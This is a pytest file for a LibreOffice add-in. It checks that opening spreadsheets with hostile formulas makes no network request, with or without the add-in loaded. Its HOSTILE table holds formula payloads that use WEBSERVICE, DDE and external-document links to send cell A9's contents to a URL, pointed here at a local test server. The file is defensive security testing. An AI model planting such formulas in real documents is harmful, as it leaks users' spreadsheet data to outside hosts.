"""Opening a document sends nothing, with the add-in and without it."""

import threading
import zipfile
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from xml.sax.saxutils import quoteattr

import pytest
import xlsxwriter

from tests.addin.office import Office, missing, running

pytestmark = [
    pytest.mark.libreoffice,
    pytest.mark.skipif(bool(missing()), reason=missing() or "it is there"),
]
HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
SPACES = " ".join(
    f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:{version}"'
    for name, version in {"office": "1.0", "table": "1.0", "text": "1.0", "of": "1.2"}.items()
)
OURS = "RENT_PER_MONTH(2)"
BROKEN = "_xll.RENT_PER_MONTH(2)"
HOSTILE = {
    "profits": 'WEBSERVICE("{url}?x=" & [.A9]) & "profits"',
    "beside a call": 'WEBSERVICE("{url}?x=" & [.A9]) & T(' + OURS + ")",
    "beside a broken call": 'WEBSERVICE("{url}?x=" & [.A9]) & T(' + BROKEN + ")",
    "behind a broken call": BROKEN + ' + LEN(WEBSERVICE("{url}"))',
    "dde": 'DDE("soffice";"{url}";"A1") & T(' + BROKEN + ")",
    "another document": "'{url}'#$Sheet1.A1 + " + BROKEN,
}


@pytest.fixture(scope="module")
def office(request: pytest.FixtureRequest) -> Iterator[Office]:
    """A LibreOffice without the add-in."""
    with running(None) as bare:
        yield bare


@pytest.fixture
def asked() -> Iterator[tuple[str, list[str]]]:
    """A server of this machine, and what it was asked for."""
    paths: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            paths.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"1")

        do_HEAD = do_OPTIONS = do_PROPFIND = do_GET  # noqa: N815

        def log_message(self, *_: object) -> None:
            pass

    server = HTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/", paths
    server.shutdown()
    server.server_close()


def sheet(formulas: list[str]) -> str:
    """The body of an OpenDocument spreadsheet whose column B holds formulas, each with a value."""
    rows = "".join(
        "<table:table-row><table:table-cell/><table:table-cell "
        f'table:formula={quoteattr("of:=" + formula)} office:value-type="float" '
        'office:value="1"><text:p>1</text:p></table:table-cell></table:table-row>'
        for formula in formulas
    )
    return (
        '<office:body><office:spreadsheet><table:table table:name="Sheet1">'
        f"{rows}</table:table></office:spreadsheet></office:body>"
    )


def flat(path: Path, formulas: list[str]) -> None:
    """Write an .fods document."""
    kind = 'office:mimetype="application/vnd.oasis.opendocument.spreadsheet"'
    text = f'{HEAD}<office:document {SPACES} office:version="1.3" {kind}>{sheet(formulas)}'
    path.write_text(f"{text}</office:document>", encoding="utf-8")


def packed(path: Path, formulas: list[str]) -> None:
    """Write an .ods document."""
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    entry = '<manifest:file-entry manifest:full-path="{}" manifest:media-type="{}"/>'
    listed = entry.format("/", kind) + entry.format("content.xml", "text/xml")
    space = 'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"'
    body = f'{HEAD}<office:document-content {SPACES} office:version="1.3">{sheet(formulas)}'
    with zipfile.ZipFile(path, "w") as parts:
        parts.writestr("mimetype", kind)
        parts.writestr("content.xml", f"{body}</office:document-content>")
        parts.writestr(
            "META-INF/manifest.xml",
            f'<manifest:manifest {space} manifest:version="1.3">{listed}</manifest:manifest>',
        )


def excel(path: Path, formulas: list[str]) -> None:
    """Write an .xlsx workbook; a link to another document is DDE's way of writing it there."""
    with xlsxwriter.Workbook(path) as book:
        page = book.add_worksheet("Sheet1")
        for row, formula in enumerate(formulas):
            said = formula.replace("[.A9]", "A9").replace("WEBSERVICE", "_xlfn.WEBSERVICE")
            page.write_formula(row, 1, "=" + said.replace(";", ","), None, 1)


WRITERS = {"fods": flat, "ods": packed, "xlsx": excel}


@pytest.mark.parametrize("kind", WRITERS)
@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("with_add_in", [True, False], ids=["add-in", "bare"])
def test_opening_a_hostile_document_sends_nothing(
    calc: Office, office: Office, asked, tmp_path: Path, kind: str, hostile: str, with_add_in: bool
) -> None:
    """Neither what it asks for nor what its other cells hold reaches a server on opening."""
    url, paths = asked
    path = tmp_path / f"hostile.{kind}"
    WRITERS[kind](path, [HOSTILE[hostile].format(url=url), BROKEN])
    program = calc if with_add_in else office
    program.ask("open", str(path))
    program.ask("read")
    assert paths == []


def test_the_server_counts_what_is_sent(asked) -> None:
    """The count above can be other than zero."""
    import urllib.request

    url, paths = asked
    urllib.request.urlopen(f"{url}?x=1").read()
    assert paths == ["/?x=1"]


def test_a_harmless_document_with_broken_names_is_mended(calc: Office, tmp_path: Path) -> None:
    """2 an hour are 1,460 a month: the name is typed again where nothing reaches out."""
    path = tmp_path / "harmless.fods"
    flat(path, [BROKEN])
    calc.ask("open", str(path))
    assert 1_460.0 in calc.ask("read")["Sheet1"].values()


def test_a_document_without_our_names_is_not_touched(calc: Office, tmp_path: Path) -> None:
    """What LibreOffice stored stays stored: nothing is computed again, not even a wrong value."""
    path = tmp_path / "stored.fods"
    flat(path, ['LEN("profits and RENT_PER_MONTH(2)")'])
    calc.ask("open", str(path))
    assert calc.ask("modified") is False
